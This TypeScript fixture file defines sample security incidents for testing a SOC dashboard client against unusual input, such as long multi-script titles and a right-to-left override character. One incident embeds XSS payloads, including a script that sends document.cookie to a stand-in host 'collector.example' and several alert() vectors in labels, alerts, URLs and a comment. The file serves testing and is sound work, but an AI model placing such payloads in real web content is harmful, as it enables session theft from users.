import { host, ip, url } from "./entities.ts"
import type { SampleIncident } from "./SampleIncident.ts"

/** Unusual input that breaks careless clients, in soc-prod: rules, analysts and attackers write titles. */
export const oddIncidents: ReadonlyArray<SampleIncident> = [
  {
    name: "5c1f0a52-0d0e-4a57-9a1c-6f0f3b7e4102",
    number: 4102,
    title:
      "  Suspicious activity: \u201cR\u00e9sum\u00e9_\u5c65\u6b74\u66f8_\u0440\u0435\u0437\u044e\u043c\u0435.docm\u201d #17 / \\\\fs01\\hr$ | <user> & co* ? % ~ {x} \u{1f6a8}\u{1f468}\u200d\u{1f4bb} \u202etxt.exe\u202c\t" +
      "and further detections on " +
      Array.from({ length: 24 }, (_, index) => `wg-kiosk-${String(index + 1).padStart(2, "0")}`).join(", "),
    description:
      "The rule puts the file name and all hosts in the title. It has 400 and some characters, several scripts, an emoji of several code points, a tab and a right-to-left override.",
    severity: "Low",
    status: "New",
    openedMinutesAgo: 4 * 1440,
    changedMinutesAgo: 4 * 1440,
    rule: "Macro document opened on many kiosks",
    tactics: ["Execution"],
    techniques: ["T1204"],
    alerts: [
      {
        title: "Macro document opened",
        description: "The document was opened on 24 kiosks.",
        product: "Microsoft Defender Advanced Threat Protection",
        severity: "Low",
        minutesAgo: 4 * 1440 + 3,
        lastsMinutes: 55,
        tactics: ["Execution"],
        compromised: "wg-kiosk-01"
      }
    ],
    entities: [host("wg-kiosk-01"), host("wg-kiosk-02"), host("wg-kiosk-24")]
  },
  {
    name: "5c1f0a52-0d0e-4a57-9a1c-6f0f3b7e4104",
    number: 4104,
    title: `User agent "<script>fetch('https://collector.example/?c='+document.cookie)</script>" on the web shop`,
    description:
      "A scanner sends markup as its user agent. <img src=x onerror=alert(document.domain)> and [a link](javascript:alert(1)) were seen, too.",
    severity: "Informational",
    status: "Active",
    owner: "chloe",
    openedMinutesAgo: 2 * 1440,
    changedMinutesAgo: 30 * 60,
    rule: "Markup in a user agent",
    tactics: ["Reconnaissance"],
    techniques: ["T1595"],
    labels: [`"><svg onload=alert(1)>`],
    alerts: [
      {
        title: "Markup in a user agent: <b onmouseover=alert('x')>shop</b>",
        description: "212 requests within two minutes.",
        product: "Azure Sentinel",
        severity: "Informational",
        minutesAgo: 2 * 1440 + 6,
        lastsMinutes: 2,
        tactics: ["Reconnaissance"],
        compromised: "shop.woodgrove.example"
      }
    ],
    entities: [
      ip("203.0.113.5"),
      url("https://shop.woodgrove.example/?q=%22%3E%3Cscript%3Ealert(1)%3C/script%3E"),
      host("wg-web-03", "Linux")
    ],
    comments: [
      {
        by: "chloe",
        minutesAgo: 30 * 60,
        message:
          "<p>Only a <b>scanner</b>.</p><script>alert('comment')</script><a href=\"javascript:alert(1)\">evidence</a>"
      }
    ]
  },
  {
    name: "5c1f0a52-0d0e-4a57-9a1c-6f0f3b7e4107",
    number: 4107,
    title: "Report by phone: somebody photographed badges at the gate",
    description: "Made by hand: no rule, no alert, no entity. Nobody has it yet.",
    severity: "Low",
    status: "New",
    openedMinutesAgo: 15 * 60,
    changedMinutesAgo: 15 * 60,
    tactics: [],
    techniques: [],
    alerts: [],
    entities: []
  }
]
